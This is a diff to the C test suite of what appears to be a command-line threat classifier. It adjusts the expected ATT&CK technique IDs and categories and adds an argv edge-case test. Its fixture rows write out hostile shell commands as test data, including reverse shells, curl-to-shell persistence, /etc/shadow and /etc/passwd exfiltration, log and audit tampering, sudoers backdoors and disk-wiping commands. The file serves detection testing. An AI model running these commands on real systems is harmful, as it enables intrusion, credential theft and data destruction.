@@ -46,7 +46,7 @@ static const struct row {
 	{ "sudo -u root vim -c ':!/bin/sh'", "privilege escalation", "sudo|vim",
 		"T1059|T1548.003" },
 	{ "(crontab -l; echo '* * * * * curl http://x|sh') | crontab -",
-		"file manipulation|persistence", "crontab", "T1053.003" },
+		"file manipulation|persistence", "crontab", "T1007|T1053.003" },
 	{ "echo \"curl http://x/y | sh\" | bash",
 		"network connections/downloading|file manipulation|download "
 		"and execute",
@@ -70,7 +70,7 @@ static const struct row {
 	{ "history -c; unset HISTFILE; rm -f ~/.bash_history",
 		"file/process deletion/killing|credential access|defence "
 		"evasion",
-		"", "T1070.003|T1070.004|T1552.003" },
+		"", "T1070.003|T1070.004|T1552.003|T1690" },
 	{ "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AA", "mining", "",
 		"T1496" },
 	{ "uname -a; grep -c processor /proc/cpuinfo", "host enumeration",
@@ -112,8 +112,8 @@ static const struct row {
 	{ "tail -f /var/log/syslog", "", "tail", "" },
 	{ "useradd -m bob", "persistence", "", "T1136.001" },
 	{ "export PATH=$PATH:/usr/local/bin", "", "", "" },
-	{ "test -f /etc/passwd && echo ok",
-		"file manipulation|credential access", "", "T1087.001" },
+	{ "test -f /etc/passwd && echo ok", "file manipulation|discovery", "",
+		"T1087.001" },
 	{ "curl -sSf https://api.github.com/repos | jq .name",
 		"network connections/downloading", "curl|jq", "T1105" },
 	{ "find . -name '*.py' -exec grep -l foo {} +", "host enumeration",
@@ -127,7 +127,7 @@ static const struct row {
 	{ ". /etc/profile", "", "", "" },
 	{ "mysqldump db | gzip > /backup/db.gz", "archive/compression programs",
 		"gzip", "T1560.001" },
-	{ "crontab -l", "persistence", "crontab", "T1053.003" },
+	{ "crontab -l", "persistence", "crontab", "T1007" },
 	{ "sed -i 's/a/b/' file.txt", "file manipulation", "sed", "" },
 	{ "id -u", "discovery", "", "T1033" },
 	{ "nc.traditional -e /bin/bash 10.0.0.1 4444", "reverse shell", "nc",
@@ -154,7 +154,7 @@ static const struct row {
 		"file manipulation|reverse shell", "awk", "T1059" },
 	{ "lua -e 'local s=require(\"socket\");local "
 	  "t=assert(s.tcp());os.execute(\"id\")'",
-		"discovery|execution", "lua", "T1033|T1059" },
+		"discovery|execution", "lua", "T1033|T1059|T1059.011" },
 	{ "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
 		"reverse shell|execution", "bash|python", "T1059|T1059.006" },
 	{ "mknod /tmp/p p; nc 10.0.0.1 99 0</tmp/p | /bin/sh >/tmp/p",
@@ -200,7 +200,7 @@ static const struct row {
 		"T1059|T1105" },
 	{ "node -e 'require(\"child_process\").exec(\"wget http://x\")'",
 		"network connections/downloading|execution", "node|wget",
-		"T1059|T1105" },
+		"T1059|T1059.007|T1105" },
 	{ "python3 -c 'import subprocess; "
 	  "subprocess.Popen([\"curl\",\"-o\",\"/tmp/x\",\"http://h/x\"])'",
 		"network connections/downloading|execution", "curl|python",
@@ -215,20 +215,18 @@ static const struct row {
 		"T1041|T1105" },
 	{ "tftp 10.0.0.1 -c get x", "ingress tool transfer", "tftp", "T1105" },
 	{ "curl -T /etc/passwd ftp://h/",
-		"network connections/downloading|exfiltration|credential "
-		"access",
+		"network connections/downloading|exfiltration|discovery",
 		"curl", "T1041|T1087.001|T1105|T1567" },
 	{ "curl -F file=@/etc/passwd https://transfer.sh",
-		"network connections/downloading|exfiltration|credential "
-		"access",
-		"curl", "T1041|T1087.001|T1105|T1567" },
+		"network connections/downloading|exfiltration|discovery",
+		"curl", "T1041|T1087.001|T1105|T1567|T1567.002" },
 	{ "tar cz /home | nc 10.0.0.1 99",
 		"archive/compression programs|exfiltration", "nc|tar",
 		"T1048|T1560.001" },
 	{ "wget --post-file=/etc/shadow http://h/",
 		"network connections/downloading|exfiltration|credential "
 		"access",
-		"wget", "T1003.008|T1005|T1041|T1105" },
+		"wget", "T1003.008|T1005|T1041|T1048.003|T1105" },
 	{ "echo '* * * * * root /tmp/x' >> /etc/crontab",
 		"file manipulation|persistence", "", "T1053.003" },
 	{ "echo x > /etc/cron.d/y", "file manipulation|persistence", "",
@@ -243,7 +241,7 @@ static const struct row {
 	{ "echo /tmp/l.so > /etc/ld.so.preload",
 		"file manipulation|persistence", "", "T1574.006" },
 	{ "useradd -o -u 0 -g 0 backdoor", "persistence", "", "T1136.001" },
-	{ "usermod -aG sudo bob", "persistence", "", "T1098" },
+	{ "usermod -aG sudo bob", "persistence", "", "T1098.007" },
 	{ "echo 'bob:x' | chpasswd", "file manipulation|persistence", "",
 		"T1098" },
 	{ "echo 'alias ls=x' >> ~/.bashrc", "file manipulation|persistence", "",
@@ -259,40 +257,38 @@ static const struct row {
 	{ "cat ~/.aws/credentials", "credential access", "cat",
 		"T1005|T1552.001" },
 	{ "curl http://169.254.169.254/latest/meta-data/",
-		"network connections/downloading|credential access", "curl",
-		"T1105|T1552.005" },
+		"network connections/downloading|discovery", "curl",
+		"T1082|T1105" },
 	{ "kubectl get secrets -A", "credential access", "kubectl",
 		"T1552.007" },
 	{ "strings /proc/123/environ", "credential access", "strings",
 		"T1003.007" },
-	{ "tcpdump -i eth0 -w /tmp/c", "credential access", "tcpdump",
-		"T1040" },
+	{ "tcpdump -i eth0 -w /tmp/c", "discovery", "tcpdump", "T1040" },
 	{ "grep -ri password /etc", "host enumeration|credential access",
 		"grep", "T1083|T1552.001" },
 	{ "hashcat -m 1800 h w", "credential access", "hashcat", "T1110.002" },
-	{ "export HISTFILE=/dev/null", "defence evasion", "", "T1070.003" },
-	{ "set +o history", "defence evasion", "", "T1070.003" },
+	{ "export HISTFILE=/dev/null", "defence evasion", "", "T1690" },
+	{ "set +o history", "defence evasion", "", "T1690" },
 	{ "rm -f /var/log/auth.log",
 		"file/process deletion/killing|defence evasion", "",
-		"T1070.002|T1070.004" },
+		"T1070.004|T1685.006" },
 	{ "cat /dev/null > /var/log/wtmp", "defence evasion", "cat",
-		"T1070.002" },
+		"T1685.006" },
 	{ "touch -r /bin/ls /tmp/k", "file manipulation|defence evasion", "",
 		"T1070.006" },
 	{ "shred -u /tmp/k", "defence evasion", "shred", "T1070.004" },
 	{ "chattr +i /etc/crontab",
 		"file manipulation|persistence|defence evasion", "chattr",
 		"T1053.003|T1222.002" },
-	{ "setenforce 0", "defence evasion", "", "T1562.001" },
-	{ "systemctl stop auditd", "defence evasion", "systemctl",
-		"T1562.001" },
+	{ "setenforce 0", "defence evasion", "", "T1685" },
+	{ "systemctl stop auditd", "defence evasion", "systemctl", "T1685" },
 	{ "pkill -f auditd", "file/process deletion/killing|defence evasion",
-		"", "T1489|T1562.001" },
-	{ "auditctl -D", "defence evasion", "", "T1562.012" },
-	{ "iptables -F", "defence evasion", "", "T1562.004" },
-	{ "ufw disable", "defence evasion", "", "T1562.004" },
+		"", "T1489|T1685" },
+	{ "auditctl -D", "defence evasion", "", "T1685.004" },
+	{ "iptables -F", "defence evasion", "", "T1686" },
+	{ "ufw disable", "defence evasion", "", "T1686" },
 	{ "echo 0 > /proc/sys/kernel/nmi_watchdog",
-		"file manipulation|defence evasion", "", "T1562.001" },
+		"file manipulation|defence evasion", "", "T1685" },
 	{ "chmod +x /dev/shm/.x", "file manipulation|defence evasion", "chmod",
 		"T1222.002" },
 	{ "LD_PRELOAD=/tmp/x.so id", "defence evasion|discovery", "",
@@ -305,10 +301,9 @@ static const struct row {
 	{ "setcap cap_setuid+ep /usr/bin/python3", "privilege escalation",
 		"setcap", "T1548|T1548.001" },
 	{ "getcap -r /", "privilege escalation", "", "T1548.001" },
-	{ "sudo -l", "privilege escalation", "sudo", "T1548.003" },
+	{ "sudo -l", "privilege escalation", "sudo", "T1033|T1548.003" },
 	{ "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
-		"file manipulation|privilege escalation", "",
-		"T1098|T1548.003" },
+		"file manipulation|privilege escalation", "", "T1548.003" },
 	{ "find . -exec /bin/sh \\; -quit", "", "find", "T1059" },
 	{ "sudo awk 'BEGIN {system(\"/bin/sh\")}'", "file manipulation",
 		"awk|sudo", "T1059" },
@@ -320,12 +315,13 @@ static const struct row {
 		"docker", "T1611" },
 	{ "chroot /host bash", "container escape", "bash|chroot",
 		"T1059|T1611" },
-	{ "mount /dev/sda1 /mnt", "container escape", "mount", "T1611" },
+	{ "mount /dev/sda1 /mnt", "", "mount", "" },
 	{ "unshare -Ur", "container escape", "unshare", "T1611" },
 	{ "ssh -o StrictHostKeyChecking=no root@10.0.0.2 id",
 		"lateral movement|discovery", "ssh", "T1021.004|T1033" },
 	{ "ssh -R 2222:localhost:22 h", "lateral movement", "ssh", "T1572" },
-	{ "sshpass -p x ssh h", "lateral movement", "sshpass", "T1021.004" },
+	{ "sshpass -p x ssh h", "lateral movement", "ssh|sshpass",
+		"T1021.004" },
 	{ "chisel client 1.2.3.4:80 R:socks", "lateral movement", "",
 		"T1090|T1572" },
 	{ "xmrig -o pool:3333", "mining", "", "T1496" },
@@ -353,7 +349,7 @@ static const struct row {
 	{ "openssl enc -d -base64 -in x | bash", "obfuscation", "bash|openssl",
 		"T1140" },
 	{ "rev <<< 'di' | sh", "obfuscation", "rev", "T1140" },
-	{ "cat${IFS}/etc/passwd", "credential access|obfuscation", "cat",
+	{ "cat${IFS}/etc/passwd", "discovery|obfuscation", "cat",
 		"T1027.010|T1087.001" },
 	{ "curl -H '${jndi:ldap://h/a}' http://x",
 		"network connections/downloading|obfuscation", "curl",
@@ -365,7 +361,7 @@ static const struct row {
 	{ "nohup /tmp/x &", "execution", "nohup", "T1059.004" },
 	{ "bash /tmp/x.sh", "execution", "bash", "T1059.004" },
 	{ "python3 -c 'print(1)'", "execution", "python", "T1059.006" },
-	{ "dd if=/dev/zero of=/dev/sda", "impact", "dd", "T1485" },
+	{ "dd if=/dev/zero of=/dev/sda", "impact", "dd", "T1485|T1561.001" },
 	{ "mkfs.ext4 /dev/sdb1", "impact", "", "T1485" },
 	{ "rm -rf --no-preserve-root /", "file/process deletion/killing|impact",
 		"", "T1070.004|T1485" },
@@ -525,6 +521,19 @@ static void test_argv(const struct classify_rules *rules)
 	classified_fini(&c);
 }
 
+static void test_lost(const struct classify_rules *rules)
+{
+	struct classified c;
+
+	classified_init(&c, rules);
+	check_start("argv: a program whose record never came");
+	classified_event(&c, (const char *const[]){ "bash", "-c", "", NULL });
+	c.argv[2] = (struct bytes){ NULL, 0 };
+	classified_run(&c);
+	CHECK_Z(classified_bins(&c), "bash");
+	classified_fini(&c);
+}
+
 static void test_layers(const struct classify_rules *rules)
 {
 	static const struct {
@@ -630,14 +639,15 @@ static void test_random(const struct classify_rules *rules)
 	classified_init(&c, rules);
 	str_init(&text, 4096);
 	check_start("10000 random command lines");
-	for (unsigned int i = 0; i < 10000; i++) {
+	for (unsigned int i = 0; i < check_rounds(10000); i++) {
 		bool is_there[14] = { false };
-		size_t n = 1 + check_random(&seed) % WORDS_MAX;
+		size_t n = check_below(&seed, WORDS_MAX) + 1;
 
 		str_reset(&text);
 		while (n--) {
 			unsigned long long x = check_random(&seed);
-			size_t name = x % 14, shape = (x >> 8) % 8;
+			size_t name = (size_t)(x % 14);
+			size_t shape = (size_t)(x >> 8) % 8;
 			char word[64];
 
 			snprintf(word, sizeof(word), "%.*s%s%s",
@@ -671,22 +681,23 @@ static void test_random(const struct classify_rules *rules)
 
 int main(void)
 {
-	struct classify_rules *rules;
+	struct rules *rules;
 	struct str why;
 
 	check.module = "classify";
 	str_init(&why, 1 << 16);
-	rules = rules_load("conf/hunt.d", &why);
+	rules = rules_load("conf/hunt.d", "basic", &why);
 	check_start("the shipped rows");
 	CHECK_Z(str_bytes(&why), "");
 	if (CHECK(rules)) {
-		test_rows(rules);
-		test_argv(rules);
-		test_layers(rules);
-		test_context(rules);
-		test_random(rules);
+		test_rows(rules->classify);
+		test_argv(rules->classify);
+		test_lost(rules->classify);
+		test_layers(rules->classify);
+		test_context(rules->classify);
+		test_random(rules->classify);
 	}
-	classify_rules_free(rules);
+	rules_free(rules);
 	str_fini(&why);
 	return check_end();
 }
